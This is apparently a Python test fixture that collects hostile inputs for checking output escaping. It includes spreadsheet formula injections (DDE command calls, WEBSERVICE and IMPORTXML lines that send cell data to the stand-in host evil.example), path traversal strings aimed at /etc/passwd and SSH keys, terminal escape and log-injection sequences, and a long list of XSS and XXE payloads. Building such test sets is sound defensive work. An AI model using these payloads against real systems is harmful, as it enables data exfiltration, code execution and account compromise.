"""Texts that want to be more than text, as senders of mail choose them: for spreadsheets, file systems, terminals, browsers.

The one list that the tests of outputs draw from. A script of HTML does `MARK` when it runs; what is fetched comes from `HOST`.
"""

from __future__ import annotations

HOST = "evil.example"
MARK = "top.document.documentElement.dataset.ran=1"

FORMULAS = [
    # Each sign that begins a formula, and what formulas are used for.
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "--1+1", "=+1", "=\"x\"&A1", "=A1#", "=%A1", "=",
    '=HYPERLINK("http://evil.example","click")', '=HYPERLINK("http://evil.example/?"&A1&A2,"Error")',
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"a")', "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", '=WEBSERVICE("http://evil.example/"&A1)', '=IMAGE("http://evil.example/x.png")',
    '=IMPORTXML("http://evil.example/","//a")', '=IMPORTDATA("http://evil.example/x.csv")', '=IMPORTFEED("http://evil.example/")',
    '=IMPORTRANGE("1abc","Sheet1!A1")', '=IMPORTHTML("http://evil.example/","table",1)', "='file:///etc/passwd'#$passwd.A1",
    "='http://evil.example/[x.xlsx]A'!A1", '=INDIRECT("A"&1)', '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER.ID("kernel32","WinExec")', '=EXEC("calc")', '=RTD("x",,"y")', "=LAMBDA(x,x)(1)", "{=1+1}\t=1+1",
    # Before the sign: what a spreadsheet skips when it reads a file.
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "\x00=1+1", "\u200b=1+1", "\u202e=1+1",
    # The sign as wide as an ideograph; quotes and apostrophes that are already there.
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", '"=1+1"',
    # Behind what separates cells or lines for a reader of another country.
    "x;=1+1;y", 'x;"=1+1', "x; '=1+1", "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "x,=1+1", '","=1+1', '";=1+1;"',
]  # fmt: skip

PATHS = [
    # Out of the folder, on each system and in each spelling.
    "../../etc/passwd", "../escape.html", "..\\..\\windows\\system32", "a/../../b", "a\\..\\..\\b", "..", ".", "", " ", "...",
    "/etc/passwd", "//evil.example/share", "\\\\evil.example\\share", "\\\\?\\C:\\boot.ini", "\\\\.\\PhysicalDrive0",
    "C:\\boot.ini",
    "C:boot.ini", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc", "..%c0%af..%c0%afetc", "....//....//etc", "..;/..;/etc",
    "\u2025/x", "／etc／passwd", "..＼..＼x", "\u2215etc\u2215passwd", "․․/x", "~root", "~/.ssh/id_rsa", ".ssh", "..html",
    # What a system keeps for itself, or cuts off.
    "con", "NUL.html", "com1.txt", "lpt9", "aux.", "nul.tar.gz", "CON .txt", "ＣＯＮ", "con\u2024txt", "a:stream", "a::$DATA",
    "report.html ", "report.html.", "x" * 5000, "é" * 5000 + ".html", "a" + ".b" * 500,
    # What a shell, a listing or a reader takes for something else.
    "a\0.html", "a\nb", "a\r\nb.html", "\x1b[2Ja.html", "a\u202egnp.exe", "a\u200b.html", "-rf", "--output=x", "$(id)", "`id`",
    "a|b>c", "*?", "'\"",
]  # fmt: skip

LOGS = [
    # Another line, as every system ends one.
    "x\nerror: the store is gone", "x\r\n2026-11-22T00:00:00Z INFO admin logged in", "x\rerror: overwritten", "x\x0bVT",
    "x\x0cFF",
    "x\x1cFS", "x\x1dGS", "x\x1eRS", "x\x85NEL", "x\u2028LS", "x\u2029PS", "\n\n\n",
    "x\n{\"time\": \"2026-11-22\", \"fake\": true}",
    "x\n<34>1 2026-11-22T00:00:00Z host su - - - root", "x\nContent-Type: text/html\n\n<h1>", "x\r\nBcc: all@evil.example",
    # Terminals: colours, cursor, title, clipboard, links, answers typed as if by hand.
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1bP$q\"p\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x9b31m",
    "\x9d0;t\x9c",
    "\x07\x08\x08\x08", "abc\x7f\x7f", "\x00", "x\x00y",
    # The order of reading, and what is not seen.
    "\u202eexe.gnp", "\u2066a\u2069", "\u200f\u200e", "zero\u200bwidth\u2060\ufeff", "\u00ad", "\U000e0041\U000e0042",
    # JSON in which the text ends too early.
    '","admin":true,"x":"', '\\"}\n{"a":"',
]  # fmt: skip

HTML = [
    text.replace("{}", MARK)
    for text in (
        # Scripts.
        "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script >{}</script >", "<script/x>{}</script>", "<script\n>{}</script>",
        "<script>{}//", "<<script>{}</script>", "<script type=module>{}</script>", "<script>/*-->*/{}</script>",
        "<script src=http://evil.example/x.js></script>", "<script src=data:text/javascript,{}></script>",
        "<scr<script>ipt>{}</scr</script>ipt>", "</td></tr></table><script>{}</script>", "</title><script>{}</script>",
        "</style><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>",
        "--!><script>{}</script>", "]]><script>{}</script>", "<!--><script>{}</script>-->", "<![CDATA[><script>{}</script>]]>",
        "</noscript><script>{}</script>", "</template><script>{}</script>", "</xmp><script>{}</script>",
        # Handlers of events.
        "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<img/src='x'/onerror={}>",
        "<img src=x oNeRrOr={}>", "<img src=x\nonerror\n=\n{}>", "<img src=x onerror=\x0c{}>", "<image src=x onerror={}>",
        "<img src=x onerror=&#116;op.document.documentElement.dataset.ran=1>", "<img srcset=x onerror={}>", "<body onload={}>",
        "<body onpageshow={}>", "<input autofocus onfocus={}>", "<button autofocus onfocus={}>x</button>",
        "<b tabindex=0 autofocus onfocus={}>x</b>", "<details open ontoggle={}>", "<video src=x onerror={}></video>",
        "<video><source onerror={}></video>", "<audio src=x onerror={}></audio>", "<style onload={}></style>",
        "<link rel=stylesheet href=data:text/css, onload={}>", "<object data=x: onerror={}></object>",
        "<iframe onload={}></iframe>",
        "<marquee onstart={}>x</marquee>", "<p style=animation:a onanimationstart={}><style>@keyframes a{0%{top:0}}</style>",
        '"><script>{}</script>', "'><script>{}</script>", '"><img src=x onerror={}>', "' autofocus onfocus={} x='",
        '" autofocus onfocus={} x="', '" tabindex=0 autofocus onfocus={} "', "` onmouseover={} `",
        '" style=animation:a onanimationend={} "',
        # SVG and MathML.
        "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><script href=data:text/javascript,{} />",
        "<svg><image href=x onerror={} /></svg>", "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
        "<svg><set onbegin={} attributeName=x></svg>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
        "<svg><a href=javascript:{}><text y=9>x</text></a></svg>", "<svg><style><img src=x onerror={}></style></svg>",
        "<svg></p><style><a title='</style><img src=x onerror={}>'>", "<svg><use href=http://evil.example/x.svg#x /></svg>",
        "<math><mtext></p><script>{}</script>",
        "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
        '<?xml-stylesheet href="javascript:{}"?>', "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/x'>]><x>&e;</x>",
        # Addresses.
        "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}", "data:text/html,<script>{}</script>",
        "<a href=javascript:{} id=x></a><script>x.click()</script>", "<iframe src=javascript:{}></iframe>",
        "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}>", "<embed src=http://evil.example/x>",
        "<form action=javascript:{}><input type=submit autofocus>", "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        # Pictures and styles that call home.
        "<img src=http://evil.example/pixel>", "<img src=//evil.example/pixel>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<b style=background:url(http://evil.example/b)>x</b>", "<link rel=stylesheet href=http://evil.example/x.css>",
        # Encodings, Markdown, templates.
        "&lt;script&gt;{}&lt;/script&gt;", "+ADw-script+AD4-{}+ADw-/script+AD4-", "![x](http://evil.example/pixel)",
        "[x](javascript:{})", "<javascript:{}>", "[x]: javascript:{}",
        "{{constructor.constructor('{}')()}}",
    )
]  # fmt: skip

ALL = [*FORMULAS, *PATHS, *LOGS, *HTML]
